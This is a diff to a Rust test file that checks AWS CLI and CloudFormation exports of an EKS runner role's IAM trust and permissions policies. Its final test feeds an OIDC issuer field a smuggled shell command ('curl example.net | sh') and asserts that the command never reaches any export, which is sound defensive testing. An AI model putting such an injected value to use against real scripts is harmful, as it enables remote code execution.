@@ -131,7 +131,8 @@ fn is_existing(response: &Response, id: &str) -> bool {
 fn the_aws_cli_script_is_valid_bash_and_hands_aws_exactly_the_core_documents() {
     for (name, request) in golden_requests() {
         let response = build(&request);
-        if response.has_errors() {
+        // The EKS runner role has its own test below.
+        if response.has_errors() || response.target.runner_role.is_some() {
             continue;
         }
         let script = export(&response, Format::AwsCli).text;
@@ -325,7 +326,7 @@ fn resolve(value: &Value, template: &Value, response: &Response) -> Value {
 fn cloudformation_json_deployed_in_another_region_and_account_grants_the_core_documents() {
     for (name, request) in golden_requests() {
         let response = build(&request);
-        if response.has_errors() {
+        if response.has_errors() || response.target.runner_role.is_some() {
             continue;
         }
         let template: Value =
@@ -509,4 +510,162 @@ fn pasted_grants_of_everything_are_said_in_every_commented_export_on_one_line_ea
             .as_str()
             .is_some_and(|s| s.contains("trusts any principal"))
     );
+}
+
+/// On EKS: the script creates the runner role with exactly the core's trust policy (the
+/// issuer and provider ARN spliced in from their variables' defaults) and puts exactly its
+/// permissions policy; a role whose trust policy was pasted is never created.
+#[test]
+fn the_eks_aws_cli_script_hands_aws_exactly_the_runner_documents() {
+    let mut checked = 0;
+    for (name, request) in golden_requests() {
+        let response = build(&request);
+        let Some(role) = response.target.runner_role.clone() else {
+            continue;
+        };
+        if response.has_errors() {
+            continue;
+        }
+        let script = export(&response, Format::AwsCli).text;
+        let dir = scratch(&name);
+        let exists = is_existing(&response, "runner-role-trust-policy");
+        if exists {
+            let refused = run_script(&script, &[], &dir).expect_err("the script must stop");
+            assert!(refused.contains("does not exist"), "{name}: {refused}");
+        }
+        let runs: &[&[&str]] = if exists {
+            &[&[role.as_str()]]
+        } else {
+            &[&[], &[role.as_str()]]
+        };
+        for existing in runs {
+            let calls =
+                run_script(&script, existing, &dir).unwrap_or_else(|e| panic!("{name}: {e}"));
+            let mut sent = Vec::new();
+            for call in &calls {
+                let document = argument(call, "--policy-document")
+                    .or_else(|| argument(call, "--assume-role-policy-document"));
+                let Some(document) = document else { continue };
+                assert_eq!(argument(call, "--role-name"), Some(role.as_str()), "{name}");
+                let document: Value =
+                    serde_json::from_str(document).unwrap_or_else(|e| panic!("{name}: {e}"));
+                let expected = match (call[1].as_str(), argument(call, "--policy-name")) {
+                    ("create-role" | "update-assume-role-policy", _) => {
+                        policy(&response, "runner-role-trust-policy")
+                    }
+                    ("put-role-policy", Some("MatillionRunnerPermissions")) => {
+                        policy(&response, "runner-role-permissions-policy")
+                    }
+                    other => panic!("{name}: unexpected call {other:?}"),
+                };
+                assert_eq!(Some(document), expected, "{name}: {call:?}");
+                sent.push(call[1].clone());
+            }
+            assert!(
+                !sent.iter().any(|v| v == "create-role") || !exists,
+                "{name}: created the existing role"
+            );
+            assert!(
+                sent.iter().any(|v| v == "put-role-policy"),
+                "{name}: {sent:?}"
+            );
+            let expected_trust = if exists {
+                response.documents[0]
+                    .changes
+                    .as_ref()
+                    .is_some_and(|c| !c.is_empty())
+            } else {
+                true
+            };
+            assert_eq!(
+                sent.iter()
+                    .any(|v| v == "create-role" || v == "update-assume-role-policy"),
+                expected_trust,
+                "{name}: {sent:?}"
+            );
+        }
+        checked += 1;
+        let _ = fs::remove_dir_all(&dir);
+    }
+    assert!(checked >= 6, "only {checked} EKS requests");
+}
+
+/// On EKS: the CloudFormation JSON, deployed in another region and account with every
+/// parameter at its default, creates the runner role with the core's trust policy (the IRSA
+/// one a `Fn::Sub` string of JSON: its keys are made of the issuer) and its permissions.
+#[test]
+fn the_eks_cloudformation_template_deployed_elsewhere_grants_the_runner_documents() {
+    let mut checked = 0;
+    for (name, request) in golden_requests() {
+        let response = build(&request);
+        if response.has_errors() || response.target.runner_role.is_none() {
+            continue;
+        }
+        let template: Value =
+            serde_json::from_str(&export(&response, Format::CloudFormationJson).text)
+                .unwrap_or_else(|e| panic!("{name}: the template is not JSON: {e}"));
+        let resolved = |value: &Value| match resolve(value, &template, &response) {
+            Value::String(text) => {
+                serde_json::from_str(&text).unwrap_or_else(|e| panic!("{name}: {e}: {text}"))
+            }
+            other => other,
+        };
+        let resources = &template["Resources"];
+        if is_existing(&response, "runner-role-trust-policy") {
+            assert!(
+                resources.get("RunnerRole").is_none(),
+                "{name}: creates the existing role"
+            );
+            let properties = &resources["RunnerRolePolicy"]["Properties"];
+            assert_eq!(
+                resolve(&properties["RoleName"], &template, &response),
+                json!(response.target.runner_role),
+                "{name}"
+            );
+            assert_eq!(
+                Some(resolved(&properties["PolicyDocument"])),
+                policy(&response, "runner-role-permissions-policy"),
+                "{name}"
+            );
+        } else {
+            let role = &resources["RunnerRole"]["Properties"];
+            assert_eq!(
+                Some(resolved(&role["AssumeRolePolicyDocument"])),
+                policy(&response, "runner-role-trust-policy"),
+                "{name}"
+            );
+            assert_eq!(
+                Some(resolved(&role["Policies"][0]["PolicyDocument"])),
+                policy(&response, "runner-role-permissions-policy"),
+                "{name}"
+            );
+            if response.target.oidc_issuer.is_some() {
+                assert_eq!(
+                    template["Parameters"]["OidcIssuer"]["Default"],
+                    json!(response.target.oidc_issuer),
+                    "{name}"
+                );
+            }
+        }
+        checked += 1;
+    }
+    assert!(checked >= 6, "only {checked} EKS requests");
+}
+
+/// A hostile issuer can never reach an export: the reader refuses it, and the exports then
+/// say NOT READY and carry only placeholders where the issuer goes.
+#[test]
+fn no_text_typed_for_the_issuer_reaches_an_eks_export_unless_it_is_an_issuer() {
+    let request: Request = serde_json::from_value(json!({
+        "platform": "eks", "account": "123456789012", "region": "eu-west-1",
+        "secrets": ["matillion/agent"],
+        "oidcIssuer": "oidc.eks.eu-west-1.amazonaws.com/id/ABC'\"; curl example.net | sh; echo '",
+    }))
+    .expect("a request");
+    let response = build(&request);
+    assert!(response.has_errors());
+    for format in Format::ALL {
+        let text = export(&response, format).text;
+        assert!(!text.contains("curl"), "{format:?}");
+    }
 }
